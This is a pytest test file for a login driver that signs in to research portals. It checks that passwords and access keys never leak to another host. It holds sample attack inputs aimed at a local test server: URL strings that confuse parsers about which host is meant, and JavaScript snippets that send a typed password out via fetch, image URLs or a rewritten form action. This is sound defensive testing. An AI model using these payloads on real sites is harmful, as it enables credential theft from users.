# Copyright (c) 2026, labops.cloudresearch contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the drivers do on the wire, against pages that are worse than any site's."""

from __future__ import annotations

import email.utils
import pathlib
import time
from typing import Any

import pytest

from ansible_collections.labops.cloudresearch.plugins.plugin_utils.base.errors import CollectionError
from tests.stack.portal_site import KEY, SECRET
from tests.stack.written_sites import (
    BUTTON,
    FORM,
    HOME,
    Request,
    Run,
    Site,
    good_site,
)


def test_it_says_who_it_is(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    good_site(own)
    assert run(own).link.evidence == "page"
    assert all("labops.cloudresearch" in request.headers["User-Agent"] for request in own.requests)
    assert [(request.method, request.path) for request in own.requests] == [
        ("GET", "/"),
        ("POST", "/login"),
        ("GET", "/home"),
        ("GET", "/link"),
        ("POST", "/link"),
    ]


def test_a_password_never_becomes_part_of_an_address(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    own.answers = {"/": FORM.format("action=/login", BUTTON), "/login": HOME}
    with pytest.raises(CollectionError) as caught:
        run(own)
    assert caught.value.reason == "page_changed"
    assert not own.saw("correct")


def test_what_netrc_has_for_the_host_is_not_sent(
    sites: tuple[Site, Site], over_http: Run, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own, _foreign = sites
    good_site(own)
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login someone password else\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    over_http(own)
    assert not any("Authorization" in request.headers for request in own.requests)


def test_a_portal_on_this_machine_is_asked_without_a_proxy(
    sites: tuple[Site, Site], run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is encrypted there, because nothing leaves the machine."""
    own, foreign = sites
    good_site(own)
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy"):
        monkeypatch.setenv(name, foreign.url)
    for name in ("no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    assert run(own).link.status == "linked"
    assert foreign.connections == 0


@pytest.mark.parametrize("status", [302, 303, 307, 308])
def test_redirects_of_a_password_to_another_site(sites: tuple[Site, Site], run: Run, status: int) -> None:
    own, foreign = sites
    good_site(own)
    own.answers["/login"] = (status, {"Location": f"{foreign.url}/collect"}, "")
    foreign.answers["/collect"] = "<h1>Thank you</h1>"
    with pytest.raises(CollectionError):
        run(own)
    assert not foreign.saw("correct")
    assert all(request.method == "GET" for request in foreign.requests)


# Written by a page or a header of a site at 127.0.0.1; some parsers see one host, some the other.
TWO_FACED = [
    "http://{foreign}\\@{own}/x",
    "http://{foreign}\\.{own}/x",
    "http://{foreign}\\/@{own}/x",
    "http://{own}@{foreign}/x",
    "http://{own}%40{foreign}/x",
    "\\\\{foreign}/x",
    "/\\{foreign}/x",
    "//{foreign}\\@{own}/x",
]


@pytest.mark.parametrize(
    ("way", "address"),
    [("form", address) for address in TWO_FACED]
    + [(way, address) for way in ("redirect", "base", "button") for address in TWO_FACED[:2]],
)
def test_an_address_with_two_hosts_gets_no_password(sites: tuple[Site, Site], run: Run, address: str, way: str) -> None:
    own, foreign = sites
    good_site(own)
    foreign.answers["/x"] = HOME
    there = address.format(own=own.url.removeprefix("http://"), foreign=foreign.url.removeprefix("http://"))
    if way == "redirect":
        own.answers["/login"] = (307, {"Location": there}, "")
    elif way == "base":
        own.answers["/"] = f'<base href="{there}">' + FORM.format("method=post action=x", BUTTON)
    elif way == "button":
        own.answers["/"] = FORM.format("method=post action=/login", f'<button formaction="{there}">Log in</button>')
    else:
        own.answers["/"] = FORM.format(f'method=post action="{there}"', BUTTON)
    with pytest.raises(CollectionError) as caught:
        run(own)
    assert caught.value.reason == "page_changed"
    assert not foreign.saw("correct")


def test_a_redirect_that_repeats_the_form_is_followed_within_the_site(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    good_site(own)
    own.answers["/login"] = (307, {"Location": "/login2"}, "")
    own.answers["/login2"] = (303, {"Location": "/home"}, "")
    assert run(own).link.status == "linked"
    assert any(request.path == "/login2" and "correct" in request.body for request in own.requests)


def test_a_listed_host_may_have_the_sign_in(sites: tuple[Site, Site], run: Run) -> None:
    own, foreign = sites
    good_site(own)
    own.answers["/"] = (302, {"Location": f"{foreign.url}/"}, "")
    foreign.answers = {
        "/": FORM.format("method=post action=/login", BUTTON),
        "/login": (303, {"Location": f"{own.url}/home"}, ""),
    }
    with pytest.raises(CollectionError, match=r"127\.0\.0\.2"):
        run(own)
    assert not foreign.saw("correct")
    assert run(own, trusted_hosts=["127.0.0.2"]).link.status == "linked"


TYPED = "document.querySelector('[name=p]').value"
SENT = "fetch('{url}/x', {{method: 'POST', mode: 'no-cors', body: "
SCRIPTS = {
    "an address": "new Image().src = '{url}/x?p=' + encodeURIComponent(" + TYPED + ")",
    "a body": SENT + TYPED + "}})",
    "JSON": SENT + "JSON.stringify({{p: " + TYPED + "}})}})",
    "base64": SENT + "btoa(" + TYPED + ")}})",
    "the form's own address": "this.form.action = '{url}/x'",
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_cannot_carry_the_password_away(sites: tuple[Site, Site], in_browser: Run, name: str) -> None:
    own, foreign = sites
    good_site(own)
    script = SCRIPTS[name].format(url=foreign.url)
    own.answers["/"] = FORM.format("method=post action=/login", f'<button onclick="{script}">Log in</button>')
    with pytest.raises(CollectionError) as caught:
        in_browser(own)
    assert caught.value.reason == "page_changed"
    assert not foreign.saw("correct")
    assert not foreign.saw("Y29ycmVjd")


def test_a_redirect_to_an_unencrypted_site_is_not_followed(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    own.answers["/"] = (302, {"Location": "http://portal.example.invalid/"}, "")
    with pytest.raises(CollectionError) as caught:
        run(own)
    assert caught.value.reason in ("page_changed", "portal_unavailable")


def test_redirects_in_a_circle_end(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    own.answers["/"] = (302, {"Location": "/a"}, "")
    own.answers["/a"] = (302, {"Location": "/"}, "")
    with pytest.raises(CollectionError) as caught:
        run(own, timeout=8)
    assert caught.value.reason in ("page_changed", "portal_unavailable")
    assert len(own.requests) < 100


@pytest.mark.parametrize("status", [429, 503])
@pytest.mark.parametrize("kind", ["seconds", "date"])
def test_retry_after_is_waited_for(sites: tuple[Site, Site], over_http: Run, status: int, kind: str) -> None:
    own, _foreign = sites
    good_site(own)
    first = own.answers["/"]
    value = "1" if kind == "seconds" else email.utils.formatdate(time.time() + 2, usegmt=True)

    def once(_request: Request) -> Any:
        own.answers["/"] = first
        return status, {"Retry-After": value}, "<h1>Slow down</h1>"

    own.answers["/"] = once
    start = time.monotonic()
    assert over_http(own).link.status == "linked"
    assert time.monotonic() - start >= 0.9


def test_a_page_that_failed_is_asked_for_again(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    good_site(own)
    first = own.answers["/"]

    def once(_request: Request) -> Any:
        own.answers["/"] = first
        return 500, {}, "<h1>Something went wrong</h1>"

    own.answers["/"] = once
    assert run(own).link.status == "linked"


def test_a_wait_that_is_too_long_is_told(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    own.answers["/"] = (503, {"Retry-After": "3600"}, "<h1>Down for maintenance</h1>")
    with pytest.raises(CollectionError) as caught:
        run(own)
    assert caught.value.reason == "portal_unavailable"
    assert caught.value.details["retry_after"] == 3600
    assert len(own.requests) == 1


def test_a_page_that_never_ends_is_cut_off(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites

    def slow(_request: Request) -> str:
        time.sleep(4)
        return "late"

    own.answers["/"] = slow
    start = time.monotonic()
    with pytest.raises(CollectionError) as caught:
        over_http(own, timeout=2)
    assert caught.value.reason == "timeout"
    assert time.monotonic() - start < 4


def test_a_style_sheet_settles_what_looks_ambiguous(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    good_site(own)
    own.answers["/site.css"] = (200, {"Content-Type": "text/css"}, ".honey { position: absolute; left: -10000px }")
    own.answers["/"] = "<link rel=stylesheet href=/site.css>" + FORM.format(
        "method=post action=/login", "<div class=honey><label>Email<input name=trap></label></div>" + BUTTON
    )
    assert over_http(own).link.status == "linked"
    (login,) = [request for request in own.requests if request.path == "/login"]
    assert "trap=&" in login.body + "&"


def test_a_form_without_a_button_is_sent(sites: tuple[Site, Site], run: Run) -> None:
    own, _foreign = sites
    good_site(own)
    # Pages may make up the marks that the browser driver leaves; they say nothing.
    field = "<label>{}<input name=x type={} data-labops-seen=hidden data-labops-ref=x></label>"
    one_field = f"<title>Log in</title><form method=post action=/{{}}>{field}</form><input data-labops-form=x>"
    own.answers["/"] = one_field.format("next", "Email", "email")
    own.answers["/next"] = one_field.format("login", "Password", "password")
    assert run(own).link.status == "linked"


def test_cookies_come_back(sites: tuple[Site, Site], over_http: Run) -> None:
    own, _foreign = sites
    good_site(own)
    own.answers["/login"] = (303, {"Location": "/home", "Set-Cookie": "session=abc; HttpOnly"}, "")
    over_http(own)
    assert own.requests[-1].headers["Cookie"] == "session=abc"


APP = """<!doctype html><title>Research Hub</title><div id=app></div><script>
const app = document.getElementById('app'), at = id => document.getElementById(id);
const send = (path, body) => fetch(path, { method: 'POST', body: JSON.stringify(body) });
const start = () => {
  app.innerHTML = `<h1>Research made easy</h1><button type=button id=open>Log in</button><dialog>
    <div><span>E-mail</span><input id=e></div><div><span>Password</span><input id=p type=password></div>
    <button id=go type=button>Log in</button></dialog>`;
  at('open').onclick = () => document.querySelector('dialog').showModal();
  at('go').onclick = async () => {
    await send('/api/login', { e: at('e').value, p: at('p').value });
    setTimeout(home, 400);
  };
};
const home = () => {
  app.innerHTML = `<h1>Studies</h1><button type=button>New study</button><div id=who style="cursor:pointer">JD</div>`;
  at('who').onclick = () => {
    const menu = document.createElement('div');
    menu.innerHTML = `<div role=menuitem id=way>Link Mechanical Turk</div><div role=menuitem>Log out</div>`;
    app.append(menu);
    at('way').onclick = link;
  };
};
const link = () => {
  history.pushState({}, '', '/mturk');
  app.innerHTML = '<h1>Link Mechanical Turk</h1><div id=island></div>';
  const root = at('island').attachShadow({ mode: 'open' });
  root.innerHTML = `<label for=a>Access Key ID</label><input id=a>
    <label for=s>Secret Access Key</label><input id=s type=password><button type=button>Submit</button>`;
  root.querySelector('button').onclick = async () => {
    const answer = await send('/api/link', { a: root.getElementById('a').value, s: root.getElementById('s').value });
    setTimeout(() => {
      const toast = document.createElement('div');
      toast.setAttribute('role', 'status');
      toast.textContent = answer.ok ? 'Success' : 'Error: key not valid';
      document.body.append(toast);
      setTimeout(() => toast.remove(), 4000);
    }, 300);
  };
};
start();
</script>"""


def test_an_application_without_forms_links_or_names(sites: tuple[Site, Site], in_browser: Run) -> None:
    own, _foreign = sites
    own.answers = {"/": APP, "/api/login": "{}", "/api/link": "{}"}
    done = in_browser(own, timeout=60)
    assert (done.link.status, done.link.evidence) == ("linked", "page")
    (submitted,) = [request for request in own.requests if request.path == "/api/link"]
    assert KEY in submitted.body
    assert SECRET in submitted.body
